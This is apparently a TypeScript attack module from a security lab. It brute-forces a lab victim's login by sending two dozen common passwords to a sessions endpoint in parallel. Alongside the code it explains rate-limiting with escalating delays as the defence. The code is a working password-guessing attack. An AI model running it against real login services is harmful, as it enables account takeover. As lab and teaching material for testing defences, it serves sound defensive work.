// Brute force: the passwords that most people have, one after the other, until one is right.
import { setTimeout as sleep } from 'node:timers/promises'
import { asker } from '../asking.ts'
import type { Attack } from '../attack.ts'
import { BOUNDS } from '../raid.ts'

/** Of the lists that everybody has: the most frequent of eight characters and more. */
const COMMON = [
  ...['password', '12345678', '123456789', 'iloveyou', 'princess', '1234567890', 'sunshine', 'football'],
  ...['baseball', 'superman', 'trustno1', 'computer', 'michelle', 'starwars', 'whatever', 'jennifer'],
  ...['password1', 'qwertyuiop', '1q2w3e4r', '11111111', 'butterfly', 'chocolate', 'basketball', 'passw0rd'],
] as const
/** What the victim of the range has. */
export const WEAK: string = COMMON[20]
const AT_ONCE = 2
/** A target that has too much to do is asked again: what it would say of the password is what counts. */
const BUSY_MS = 300

export const attack: Attack = {
  slug: 'guesses',
  title: 'Guessing a password',
  from: 'socket',
  defences: ['delays'],
  about: `Knows the victim’s name, for names are public, and tries the ${COMMON.length} most frequent passwords of eight characters and more.`,
  why: [
    'Most passwords are not random: a list of some thousand opens a good part of all accounts. Whoever may try as fast as the server answers needs minutes for that. A slow hash (bcrypt of cost 12) helps whoever lost the database, not against guesses at the front door: it only makes them cost the server more. (The target here hashes at cost 4 in every position, for its passwords guard nothing; a lab of yours has 12.)',
    'The defence: five wrong tries are free; then the next has to wait 1, 2, 4 … 300 s, counted for the account and for the address, whatever the password: a right one during the wait is 429 too, or the wait would tell which is right. That leaves some 300 guesses a day. Against a password that is among the first five, nothing on the server helps but a second factor, or refusing it at sign-up.',
  ],
  source: {
    name: 'OWASP ASVS 5.0, 6.3.1; CWE-307',
    url: 'https://cwe.mitre.org/data/definitions/307.html',
  },

  async run(target, signal) {
    const over = AbortSignal.any([signal, AbortSignal.timeout(BOUNDS.ms - 500)])
    const { ask, close } = asker(target, over)
    const { name } = target.victim
    const waiting = [...COMMON]
    let [wrong, stop, found, waits] = [0, '', '', '']

    async function guess() {
      for (let password = waiting.shift(); password && !stop && !found; password = waiting.shift()) {
        const { status, code, headers } = await ask('POST', '/sessions', { json: { name, password } })
        if (status === 201) found = password
        else if (status === 401) wrong++
        else if (status === 503) {
          waiting.unshift(password) // this one was not tried yet
          await sleep(BUSY_MS, undefined, { signal: over })
        } else stop = `${status} ${code ?? ''}`
        waits = headers.get('retry-after') ?? waits
      }
    }
    try {
      await Promise.all(Array.from({ length: AT_ONCE }, guess)).catch((error: unknown) => {
        if (!over.aborted) throw error
        stop = 'the time was over'
      })
      // Neither found nor refused by the rule: how long the attack had, and not the target, has decided.
      if (!found && stop && !stop.startsWith('429')) throw new Error(`after ${wrong} guesses: ${stop}`)
      const seen = [`${wrong} guesses at the password of ${name} were answered 401`]
      if (stop && !found) seen.push(`then ${stop}${waits && `; the next try may be in ${waits} s`}`)
      if (found) seen.push(`“${found}” was right: 201, and a session of ${name}’s account`)
      return { succeeded: found !== '', seen }
    } finally {
      await close()
    }
  },
}
